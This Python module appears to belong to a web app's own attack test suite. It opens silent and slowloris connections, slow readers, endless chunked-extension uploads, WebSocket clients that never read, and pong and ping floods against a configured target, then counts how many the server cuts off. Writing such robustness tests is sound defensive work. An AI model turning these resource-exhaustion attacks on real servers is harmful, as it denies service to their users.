"""Attacks by clients that keep the server waiting: silent, slow, or never reading."""

from __future__ import annotations

import asyncio
import json
import socket
import time
from collections import Counter
from collections.abc import Iterable
from contextlib import suppress

from tests.attack.attacks.requests import guest_token
from tests.attack.target import Facts, Target

_WEBSOCKET = "/socket.io/?EIO=4&transport=websocket"
_SAID = (
    b"",
    b"GET / HT",
    b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ",
    b"POST /api/auth/guest HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n{",
)
"""Silent connections, three kinds of slow ones."""
_UNREAD = b"GET /api/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 30
_AT_ONCE = 50
_MOST_PACKETS = 800_000
"""5 MB: less than the limit on the bytes of a WebSocket."""
_CUT_WITHIN_S = 5.0
"""The buffers of both kernels can take all of that before a busy server reads it."""


async def idle_connections(target: Target) -> Facts:
    """`options["connections"]` that send nothing, or a part of a request."""
    said = [_SAID[number % len(_SAID)] for number in range(int(target.options["connections"]))]
    return await _held(target, said)


async def slow_readers(target: Target) -> Facts:
    """`options["connections"]` that ask for a large answer 30 times and read nothing."""
    return await _held(target, [_UNREAD] * int(target.options["connections"]))


async def endless_chunk_extensions(target: Target) -> Facts:
    """Uploads whose only chunk has an extension without an end, 40 connections slowly and 10 as fast as they
    can. `open`: how many the server has not closed at the end."""
    head = (
        b"POST /api/auth/guest HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n9;"
    )
    writers = [await _connection(target, head) for _ in range(50)]
    end = time.monotonic() + target.seconds

    async def go_on(writer: asyncio.StreamWriter, size: int, pause_s: float) -> None:
        with suppress(ConnectionError):
            while time.monotonic() < end and not writer.is_closing():
                writer.write(b"x" * size)
                await writer.drain()
                await asyncio.sleep(pause_s)

    slow, fast = writers[:40], writers[40:]
    await asyncio.gather(*(go_on(w, 200, 0.1) for w in slow), *(go_on(w, 60_000, 0) for w in fast))
    facts = {"opened": len(writers), "open": sum(not writer.is_closing() for writer in writers)}
    _close(writers)
    return facts


async def sockets_that_never_read(target: Target) -> Facts:
    """Twenty people who join a room, ask for more and more, answer pings unseen and read nothing."""
    async with target.http() as http:
        token = await guest_token(http)
        body = {"name": "Deaf", "topic": "", "level": "B1", "type": "public"}
        async with http.post(
            "/api/rooms", json=body, headers={"Authorization": f"Bearer {token}"}
        ) as created:
            room_id = (await created.json())["id"]
        tokens = [token] + [await guest_token(http) for _ in range(19)]
    people = [await _deaf(target, token, room_id) for token in tokens]
    end, asking = time.monotonic() + target.seconds, _frame('42/rooms,7["sync",{}]') * 4
    while time.monotonic() < end:
        for writer in people:
            if not writer.is_closing():
                writer.write(asking + _frame("3"))
        await asyncio.sleep(0.1)
    facts = {"people": len(people), "cut": sum(writer.is_closing() for writer in people)}
    _close(people)
    return facts


async def floods_of_packets(target: Target) -> Facts:
    """Pongs of Engine.IO, pings of the WebSocket and empty polls, as fast as one client can. For each kind of
    packet: how many connections sent it, and how many of them the server ended before `_MOST_PACKETS`."""
    frames = {"pong": _frame("3"), "control ping": bytes([0x89, 0x80, 0, 0, 0, 0])}
    counts: Counter[str] = Counter()
    async with target.http() as http:
        token = await guest_token(http)

        async def flood(kind: str, frame: bytes) -> None:
            try:
                writer = await _deaf(target, token)
            except ConnectionError:  # refused by a limit, because of the polls: no flood
                return
            is_cut = await _is_cut(writer, frame)
            writer.transport.abort()
            counts[f"{kind} floods"] += 1  # not of one that the end of the attack cancels
            counts[f"{kind} floods cut"] += is_cut

        async def poll() -> None:
            async with http.post("/socket.io/?EIO=4&transport=polling&sid=x", data="") as answer:
                counts[str(answer.status)] += 1

        async def all_kinds() -> None:
            await asyncio.gather(*(flood(*each) for each in frames.items()), *(poll() for _ in range(50)))

        await target.repeat(all_kinds, 1)
    return dict(counts)


async def _is_cut(writer: asyncio.StreamWriter, frame: bytes) -> bool:
    """Send `_MOST_PACKETS` of these frames, then a few. Whether the server ended the connection for them."""
    with suppress(ConnectionError):
        for _ in range(_MOST_PACKETS // 100):
            if writer.is_closing():
                return True
            writer.write(frame * 100)
            await writer.drain()
            await asyncio.sleep(0)
        until = time.monotonic() + _CUT_WITHIN_S
        while not writer.is_closing():
            if time.monotonic() > until:
                return False
            writer.write(frame)
            await writer.drain()
            await asyncio.sleep(0.1)
    return True


async def class_of_40(target: Target) -> Facts:
    """No attack: 40 browsers behind one address sign in within seconds, with six connections and a WebSocket
    each. Counts of answers; `sockets`: open at the end, all at once."""
    counts: Counter[str] = Counter()

    async def learner() -> None:
        async with target.http() as http:
            token = await guest_token(http)

            async def get(path: str) -> None:
                async with http.get(path, headers={"Authorization": f"Bearer {token}"}) as answer:
                    counts[str(answer.status)] += 1
                    await answer.read()

            await asyncio.gather(*(get("/api/rooms") for _ in range(6)))
            async with http.ws_connect(_WEBSOCKET) as opened:
                await opened.receive_str()
                await opened.send_str("40/rooms," + json.dumps({"token": token}))
                answer = await opened.receive_str()
                counts["sockets" if answer.startswith("40/rooms") else answer[:200]] += 1
                await asyncio.sleep(target.seconds)

    await asyncio.gather(*(learner() for _ in range(40)))
    return dict(counts)


async def _held(target: Target, said: Iterable[bytes]) -> Facts:
    """Connect, say it, wait; `open`: how many the server has not closed at the end."""
    waiting, held = list(said), []
    while waiting:
        batch, waiting = waiting[:_AT_ONCE], waiting[_AT_ONCE:]
        opened = await asyncio.gather(*(_connection(target, text) for text in batch), return_exceptions=True)
        held += [each for each in opened if isinstance(each, asyncio.StreamWriter)]
    await asyncio.sleep(target.seconds)
    left = held
    for pause_s in (0.2, 0.0):  # the end of a connection from which nothing is read shows by writing, twice
        for writer in left:
            if not writer.is_closing():
                writer.write(b" ")
        await asyncio.sleep(pause_s)
        left = [writer for writer in left if not writer.is_closing()]
    _close(held)
    return {"opened": len(held), "open": len(left)}


async def _connection(target: Target, said: bytes) -> asyncio.StreamWriter:
    """Nothing is read from it; its receive buffer is small."""
    _reader, writer = await _opened(target, said)
    writer.transport.pause_reading()  # type: ignore[attr-defined]  # it is a ReadTransport too
    return writer


async def _opened(target: Target, said: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    sock = socket.socket(socket.AF_INET6 if ":" in target.host else socket.AF_INET)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    sock.bind((target.source, 0))
    async with asyncio.timeout(5):
        await asyncio.get_running_loop().sock_connect(sock, (target.host, target.port))
    reader, writer = await asyncio.open_connection(sock=sock, limit=1 << 10)
    writer.write(said)
    return reader, writer


async def _deaf(target: Target, token: str, room_id: str = "") -> asyncio.StreamWriter:
    """A WebSocket in `/rooms`, and in the room if there is one. Only its first bytes are read. Raises
    ConnectionError if it is refused."""
    reader, writer = await _opened(
        target,
        f"GET {_WEBSOCKET} HTTP/1.1\r\nHost: {target.host}:{target.port}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n".encode(),
    )
    status = await reader.readline()
    writer.transport.pause_reading()  # type: ignore[attr-defined]  # it is a ReadTransport too
    if b" 101 " not in status:
        writer.transport.abort()
        raise ConnectionRefusedError(status.decode())
    writer.write(_frame("40/rooms," + json.dumps({"token": token})))
    if room_id:
        await asyncio.sleep(0.3)
        writer.write(_frame("42/rooms,1" + json.dumps(["join", {"roomId": room_id}])))
    return writer


def _frame(text: str) -> bytes:
    """A masked text frame (RFC 6455 section 5.2) whose mask is zero."""
    data = text.encode()
    size = bytes([0x80 | len(data)]) if len(data) < 126 else b"\xfe" + len(data).to_bytes(2, "big")
    return b"\x81" + size + bytes(4) + data


def _close(writers: Iterable[asyncio.StreamWriter]) -> None:
    for writer in writers:
        writer.transport.abort()
